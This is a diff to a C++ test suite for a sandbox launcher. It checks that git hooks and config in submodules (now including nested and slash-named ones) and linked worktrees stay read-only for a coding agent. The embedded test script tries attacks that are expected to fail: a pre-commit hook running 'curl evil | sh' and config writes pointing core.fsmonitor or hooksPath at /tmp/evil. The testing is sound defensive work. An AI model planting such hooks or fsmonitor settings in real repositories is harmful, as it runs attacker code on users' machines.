@@ -1,8 +1,9 @@
 // The git directories the filesystem view finds at launch
 // (docs/filesystem-view.md#git-directories-found-at-launch), through
 // aasm-launch under the shipped coding-agent profile as it ships, in a real
-// git repository with a real submodule (git submodule add) and a real linked
-// worktree (git worktree add): the submodule's hooks and config and the
+// git repository with real submodules (git submodule add: one with a
+// submodule of its own, one whose name has a slash) and a real linked
+// worktree (git worktree add): the submodules' hooks and config and the
 // worktree's config.worktree, commondir and gitdir are read-only (EROFS),
 // while git still works in the superproject and commits in the submodule,
 // whose index and objects live under .git/modules/sub. Each attack has its
@@ -48,6 +49,8 @@ def t(name, f):
         print(name, errno.errorcode[e.errno])
 t("sub-new-hook", lambda: open(".git/modules/sub/hooks/pre-commit", "w").write("#!/bin/sh\ncurl evil | sh\n"))
 t("sub-config", lambda: open(".git/modules/sub/config", "a").write("[core]\n\tfsmonitor = /tmp/evil\n"))
+t("nested-config", lambda: open(".git/modules/sub/modules/inner/config", "a").write("[core]\n\tfsmonitor = /tmp/evil\n"))
+t("slashed-name-hook", lambda: open(".git/modules/libs/in/hooks/post-checkout", "w").write("#!/bin/sh\n"))
 t("worktree-config", lambda: open(".git/worktrees/wt/config.worktree", "a").write("[core]\n\thooksPath = /tmp\n"))
 t("worktree-commondir", lambda: open(".git/worktrees/wt/commondir", "w").write("/tmp/evil\n"))
 t("worktree-gitdir", lambda: open(".git/worktrees/wt/gitdir", "w").write("/tmp/evil/.git\n"))
@@ -56,7 +59,8 @@ t("sub-gitdir-rename-away", lambda: os.rename(".git/modules/sub", ".git/modules/
 )";
 
 const std::vector<std::pair<std::string, std::string>> kAttacks = {
-    {"sub-new-hook", "EROFS"},       {"sub-config", "EROFS"},      {"worktree-config", "EROFS"},
+    {"sub-new-hook", "EROFS"},       {"sub-config", "EROFS"},      {"nested-config", "EROFS"},
+    {"slashed-name-hook", "EROFS"},  {"worktree-config", "EROFS"},
     {"worktree-commondir", "EROFS"}, {"worktree-gitdir", "EROFS"}, {"sub-gitdir-rename-away", "EBUSY"},
 };
 
@@ -72,12 +76,18 @@ struct Repository {
 
   explicit Repository(uid_t user) : uid(user) {
     ::chmod(base.path().c_str(), 0755);
-    git(base.path(), "git init -q other && cd other && echo lib > lib.txt && git add lib.txt && git commit -qm lib");
+    git(base.path(), "git init -q inner && cd inner && echo in > in.txt && git add in.txt && git commit -qm inner");
+    git(base.path(), "git init -q other && cd other && echo lib > lib.txt && git add lib.txt && git commit -qm lib"
+                     " && git -c protocol.file.allow=always submodule add -q ../inner inner && git commit -qm inner");
     git(base.path(), "git init -q ws && cd ws && echo top > top.txt && git add top.txt && git commit -qm top"
-                     " && git -c protocol.file.allow=always submodule add -q ../other sub && git commit -qm sub"
+                     " && git -c protocol.file.allow=always submodule add -q ../other sub"
+                     " && git -c protocol.file.allow=always submodule add -q ../inner libs/in"
+                     " && git -c protocol.file.allow=always submodule update -q --init --recursive && git commit -qm sub"
                      " && git worktree add -q ../wt && git config extensions.worktreeConfig true"
                      " && git -C ../wt config --worktree core.editor true");
     REQUIRE(exists(ws + "/.git/modules/sub/config"));
+    REQUIRE(exists(ws + "/.git/modules/sub/modules/inner/config"));  // nested: sub's own submodule
+    REQUIRE(exists(ws + "/.git/modules/libs/in/config"));             // a name with a slash
     REQUIRE(exists(ws + "/.git/worktrees/wt/config.worktree"));
     write_file(ws + "/.git/info/exclude", "t.py\n");  // the script is no change of the superproject's
     write_file(ws + "/t.py", kScript);
@@ -143,7 +153,8 @@ void submodule_suite(uid_t uid) {
     CHECK(mountinfo() == before);
     const std::string text = read_file(receipt);
     CHECK(contains(text, "git directories found at launch, each one's hooks and config protected too: "
-                         "${CWD}/.git/modules/sub; ${CWD}/.git/worktrees/wt;"));
+                         "${CWD}/.git/modules/libs/in; ${CWD}/.git/modules/sub; ${CWD}/.git/modules/sub/modules/inner; "
+                         "${CWD}/.git/worktrees/wt;"));
     CHECK(contains(text, "\"path\":\"${CWD}/.git/modules/sub/config\",\"status\":\"bound\""));
     CHECK(contains(text, "\"path\":\"${CWD}/.git/worktrees/wt/gitdir\",\"status\":\"bound\""));
     // A name the submodule lacks is skipped, like the profile's optional ones.
@@ -160,16 +171,18 @@ void submodule_suite(uid_t uid) {
     }
     CHECK(contains(read_file(repo.ws + "/.git/modules/sub-old/config"), "fsmonitor"));
   }
-  SUBCASE("coding-agent: git works in the superproject and commits in the submodule") {
+  SUBCASE("coding-agent: git works in the superproject and commits in the submodule and in its own") {
     const Repository repo(uid);
     const Run r = repo.launch({repo.compile(true), "--", "/bin/sh", "-c",
                                "git status --short && git submodule status >/dev/null"
-                               " && cd sub && echo change >> lib.txt && git add lib.txt && git commit -qm in-sub"
+                               " && cd sub/inner && echo change >> in.txt && git commit -qam in-inner"
+                               " && git log -1 --format=%s && cd .."
+                               " && echo change >> lib.txt && git add lib.txt inner && git commit -qm in-sub"
                                " && git log --format=%s && cd .. && git status --short"
                                " && ! git -C sub config core.fsmonitor /tmp/evil 2>/dev/null && echo protected"});
     INFO(r.err, r.out);
     CHECK(r.exit_code == 0);
-    CHECK(r.out == "in-sub\nlib\n M sub\nprotected\n");
+    CHECK(r.out == "in-inner\nin-sub\ninner\nlib\n M sub\nprotected\n");
   }
 }
 
@@ -241,9 +254,9 @@ TEST_CASE("git dirs: symbolic links in .git/modules and .git/worktrees are not f
 // than leave a git directory unprotected; the control: one fewer launches.
 TEST_CASE("git dirs: more nested git directories than the launcher walks refuse the launch, naming the bound") {
   const Repository repo(0);
-  const std::string make = "cd .git/modules && for i in $(seq 3 " + std::to_string(git_dirs::kMaxGitDirs) +
+  const std::string make = "cd .git/modules && for i in $(seq 5 " + std::to_string(git_dirs::kMaxGitDirs) +
                            "); do mkdir m$i && echo ref > m$i/HEAD; done";
-  Repository::git(repo.ws, make);  // with sub and wt: exactly the bound
+  Repository::git(repo.ws, make);  // with sub, its inner, libs/in and wt: exactly the bound
   const std::string plan = repo.compile(true);
   const Run at_bound = repo.launch({plan, "--", "/usr/bin/true"});
   INFO(at_bound.err);
